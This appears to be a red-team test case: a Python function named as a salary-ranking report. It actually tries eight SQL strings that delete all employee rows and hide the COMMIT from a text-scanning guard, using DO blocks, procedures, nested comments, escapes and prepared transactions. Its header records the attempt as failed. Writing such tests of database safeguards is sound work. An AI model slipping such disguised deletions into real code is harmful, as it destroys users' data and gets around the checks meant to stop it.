# /// attack
# exercise = "salary-rank"
# trick = "COMMIT where no reader of texts sees it: in DO blocks, procedures, comments, prepared transactions, escapes"
# outcome = ["failed"]
# witness = ["update-salary"]
# ///

from contextlib import suppress

from sqlalchemy.exc import DBAPIError

_WAYS = (
    "DO $$ BEGIN DELETE FROM employees; COMMIT; END $$",
    "CREATE PROCEDURE c() LANGUAGE plpgsql AS 'BEGIN DELETE FROM employees; COMMIT; END'; CALL c()",
    "DELETE FROM employee_projects; /* /* */ ; */ COMMIT; DELETE FROM employees; COMMIT",
    "DELETE FROM employee_projects; SELECT E'\\'; COMMIT; --'; COMMIT AND CHAIN",
    "SELECT $x$;$x$; END; DELETE FROM employees; COMMIT PREPARED 'x'",
    "DELETE FROM employees; PREPARE TRANSACTION 'x'",
    "PREPARE c AS SELECT 1; DEALLOCATE c; COMMIT WORK",
    "BEGIN; DELETE FROM employees; COMMIT; VACUUM",
)


async def salary_rank_by_department(session):
    connection = await session.connection()
    raw = (await connection.get_raw_connection()).driver_connection
    for way in _WAYS:
        with suppress(Exception):
            await raw.execute(way)
    return []
